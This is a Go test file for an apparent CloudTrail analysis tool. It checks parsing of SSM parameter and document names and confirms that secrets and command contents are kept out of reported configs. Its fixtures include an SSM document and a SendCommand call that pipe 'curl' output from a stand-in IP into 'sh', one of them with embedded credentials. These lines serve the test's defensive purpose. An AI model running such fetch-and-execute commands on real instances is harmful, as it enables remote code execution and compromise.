package resource

import (
	"strings"
	"testing"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/service/ssm"
	"github.com/aws/aws-sdk-go-v2/service/ssm/types"

	"github.com/trailbench/trailbench/analysis"
)

// The names of parameters and documents that CloudTrail gives, and what AWS takes.
func TestSSMNames(t *testing.T) {
	for id, want := range map[string]string{
		"stage": "stage", "/payments/db": "/payments/db", "arn:aws:ssm:us-east-1:123456789012:parameter/stage": "stage",
		"arn:aws:ssm:us-east-1:123456789012:parameter/payments/db": "/payments/db",
	} {
		if got := parameterName(id); got != want {
			t.Errorf("%s is %q, want %q", id, got, want)
		}
	}
	const ours, theirs = "arn:aws:ssm:us-east-1:123456789012:document/patch", "arn:aws:ssm:us-east-1:444455556666:document/patch"
	for id, want := range map[string]string{"patch": "patch", ours: "patch", theirs: theirs} {
		if got := documentName(&Lookup{Resource: analysis.Resource{ID: id, AccountID: account}}); got != want {
			t.Errorf("%s is %q, want %q", id, got, want)
		}
	}
}

func TestIntegrationSSM(t *testing.T) {
	e := startEmulator(t)
	ctx, c, must := t.Context(), ssm.NewFromConfig(e.Fill), filled(t)
	name := aws.String("/payments/db")
	must(c.PutParameter(ctx, &ssm.PutParameterInput{
		Name: name, Type: types.ParameterTypeSecureString, Value: aws.String("correct horse battery staple"),
		KeyId: aws.String("alias/aws/ssm"), Description: aws.String("of the payments database"), Tier: types.ParameterTierStandard,
	}))
	e.lookUp("AWS::SSM::Parameter", *name)
	e.list("AWS::SSM::Parameter", *name)
	e.gone("AWS::SSM::Parameter", "/nobodys")

	document := aws.String("patch")
	must(c.CreateDocument(ctx, &ssm.CreateDocumentInput{
		Name: document, DocumentType: types.DocumentTypeCommand, DocumentFormat: types.DocumentFormatJson,
		Content: aws.String(`{"schemaVersion":"2.2","description":"patch","parameters":{"token":{"type":"String","default":"a-token"}},` +
			`"mainSteps":[{"action":"aws:runShellScript","name":"run","inputs":{"runCommand":["curl http://198.51.100.7/x | sh"]}}]}`),
	}))
	must(c.ModifyDocumentPermission(ctx, &ssm.ModifyDocumentPermissionInput{
		Name: document, PermissionType: types.DocumentPermissionTypeShare, AccountIdsToAdd: []string{"444455556666"},
	}))
	got := e.lookUp("AWS::SSM::Document", *document)
	if strings.Contains(got.Config, "a-token") || strings.Contains(got.Config, "198.51.100.7") {
		t.Errorf("the content is told: %s", got.Config)
	}
	e.list("AWS::SSM::Document", *document)
	e.gone("AWS::SSM::Document", "nobodys")

	sent, err := c.SendCommand(ctx, &ssm.SendCommandInput{
		DocumentName: aws.String("AWS-RunShellScript"), InstanceIds: []string{"i-0abcdef1234567890"}, OutputS3BucketName: aws.String("amzn-s3-demo-bucket"),
		Parameters: map[string][]string{"commands": {"curl -u root:hunter2 http://198.51.100.7/x | sh"}},
	})
	must(sent, err)
	got = e.lookUp("AWS::SSM::Command", *sent.Command.CommandId, "Invocations[].InstanceId", "Invocations[].Status",
		"Invocations[].CommandPlugins[].Output.masked", "Session.Owner", "Session.Target", "Session.StartDate", "Session.EndDate", "Session.DocumentName", "Session.Status")
	if strings.Contains(got.Config, "hunter2") {
		t.Errorf("a command is told: %s", got.Config)
	}
	e.gone("AWS::SSM::Command", "1234abcd-12ab-34cd-56ef-1234567890ab")
}
